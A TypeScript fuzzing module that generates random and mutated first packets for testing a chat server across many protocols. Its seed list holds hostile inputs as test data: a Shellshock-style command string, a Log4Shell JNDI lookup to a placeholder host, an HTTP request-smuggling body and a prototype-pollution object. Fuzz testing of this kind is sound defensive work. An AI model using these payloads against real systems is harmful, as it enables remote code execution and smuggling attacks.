/** First packets as the internet sends them: those of our protocols and of many others, random and mutated. */

export type Random = {
  /** A whole number from 0 to `below` - 1. */
  readonly below: (below: number) => number
  readonly of: <T>(choices: readonly T[]) => T
  readonly bytes: (length: number) => Uint8Array
}

/** Repeats with its seed (mulberry32). */
export function random(seed: number): Random {
  let state = seed
  const next = (): number => {
    state = (state + 0x6d2b79f5) | 0
    let mixed = Math.imul(state ^ (state >>> 15), 1 | state)
    mixed = (mixed + Math.imul(mixed ^ (mixed >>> 7), 61 | mixed)) ^ mixed
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 2 ** 32
  }
  const below = (most: number): number => Math.floor(next() * most)
  return {
    below,
    of: choices => choices[below(choices.length)] as (typeof choices)[number],
    bytes: length => Uint8Array.from({ length }, () => below(256)),
  }
}

const SEEDS: readonly Uint8Array[] = [
  '{"type":"hello","name":"alice"}\n',
  '{"type":"hello","name":"bob","room":"ops"}\n{"type":"say","text":"hi","n":1}\n{"type":"bye"}\n',
  '{"type":"hello","token":"0123456789abcdef","epoch":"x","cursor":7}\n{"type":"who"}\n',
  '{"type":"hello","name":"carol","features":["a","b"]}\n{"type":"topic","topic":"\\u202e\\u0000"}\n',
  '{"type":"tell","to":"alice","text":"x"}\n{"type":"nick","name":"y"}\n{"type":"ping","id":1e400}\n',
  '{"__proto__":{"type":"hello"},"constructor":1,"type":"hello","name":"__proto__"}\n',
  'alice\n/me waves\n/join ops\n/who\n/topic x\n/quit bye\n',
  'alice',
  'bob\r\n\r\n/help\r\n',
  'h\u00e9l\u00e8ne \u{1f600}\n',
  '\xff\xfb\x18\xff\xfa\x18\x00xterm\xff\xf0alice\r\n',
  'GET / HTTP/1.1\r\nHost: chat\r\nAccept: text/html\r\nAccept-Encoding: gzip, br;q=0.5\r\nIf-None-Match: W/"x"\r\n\r\n',
  'POST /api HTTP/1.1\r\nHost: chat\r\nContent-Type: application/json\r\nContent-Length: 2\r\n\r\n{}GET /x HTTP/1.1\r\nHost: chat\r\n\r\n',
  'POST / HTTP/1.1\r\nHost: chat\r\nTransfer-Encoding: chunked\r\nExpect: 100-continue\r\n\r\n5\r\nhello\r\n0\r\n\r\n',
  'GET /ws HTTP/1.1\r\nHost: chat\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n\x81\x85\x01\x02\x03\x04[]\x23\x04\x01\x88\x80\x00\x00\x00\x00',
  'GET / HTTP/1.1\r\nHost: chat\r\nUpgrade: websocket\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n',
  'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n',
  'CONNECT chat:443 HTTP/1.1\r\n\r\n',
  'CAP LS 302\r\nPASS x\r\nNICK alice\r\nUSER alice 0 * :Alice\r\n',
  'NICK \r\n',
  '\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03',
  '\r\n\r\n\x00\r\nQUIT\n\x21\x11\x00\x0c\x7f\x00\x00\x01\x7f\x00\x00\x01\xde\xad\x0b\xb9',
  'PROXY TCP4 192.0.2.1 192.0.2.2 1 2\r\n',
  'SSH-2.0-OpenSSH_9.9\r\n',
  '\x00\x00\x00\x85\xffSMB\x72\x00\x00\x00\x00\x18\x53\xc8',
  '\x03\x00\x00\x13\x0e\xe0\x00\x00\x00\x00\x00\x01\x00\x08\x00\x03\x00\x00\x00',
  '\x10\x16\x00\x04MQTT\x04\x02\x00\x3c\x00\x0aalicealice',
  '*1\r\n$4\r\nPING\r\n',
  'EHLO spam.example\r\nMAIL FROM:<a@b>\r\n',
  '<?xml version="1.0"?><stream:stream to="chat">',
  '() { :; }; /bin/ping -c 1 192.0.2.1',
  '$\x7bjndi:ldap://192.0.2.1/a}\n',
  '',
].map(text => Buffer.from(text, /[\u0100-\u{10ffff}]/u.test(text) ? 'utf8' : 'latin1'))

const DICTIONARY: readonly Uint8Array[] = [
  ...[
    '{',
    '}',
    '[',
    '"',
    '\\',
    '\\u',
    '\\ud800',
    ':',
    ',',
    'null',
    '-1',
    '1e999',
    '9007199254740993',
    '\n',
    '\r',
    '\r\n',
  ],
  ...[
    '\x00',
    '\x1b[2J',
    '\xff',
    '\xfe',
    '\xc0\x80',
    '\xed\xa0\x80',
    '\xf4\x90\x80\x80',
    '\xe2\x80\xae',
    '\xef\xbb\xbf',
  ],
  ...[
    '/',
    '//',
    '/msg ',
    '/nick ',
    '[*]',
    '&',
    '%',
    '\xff\xfa',
    '\xff\xf0',
    ' ',
    '\x16',
    'GET ',
    'NICK ',
    '\x81\x80',
    '\x88\xff',
    'Host: ',
    'Upgrade: ',
  ],
].map(text => Buffer.from(text, 'latin1'))

/** A packet that may be anything: noise, or something well-known with one to eight changes. */
export function packet(random: Random): Uint8Array {
  if (random.below(8) === 0) return random.bytes(random.below(64))
  let bytes = random.of(SEEDS)
  for (let changes = random.below(9); changes > 0; changes--) bytes = change(bytes, random)
  return bytes.length > 4096 ? bytes.subarray(0, 4096) : bytes
}

function change(bytes: Uint8Array, random: Random): Uint8Array {
  const at = random.below(bytes.length + 1)
  const to = at + random.below(bytes.length - at + 1)
  const [head, middle, tail] = [bytes.subarray(0, at), bytes.subarray(at, to), bytes.subarray(to)]
  switch (random.below(7)) {
    case 0:
      return Buffer.concat([head, tail])
    case 1:
      return Buffer.concat([head, middle, middle, tail])
    case 2:
      return Buffer.concat([head, random.bytes(1 + random.below(4)), tail])
    case 3:
      return Buffer.concat([head, random.of(DICTIONARY), middle, tail])
    case 4:
      return Buffer.concat([head, random.of(SEEDS)])
    case 5:
      return head
    default:
      return flip(bytes, random)
  }
}

function flip(bytes: Uint8Array, random: Random): Uint8Array {
  const flipped = Uint8Array.from(bytes)
  const at = random.below(bytes.length)
  if (bytes.length > 0) flipped[at] = (flipped[at] as number) ^ (1 << random.below(8))
  return flipped
}
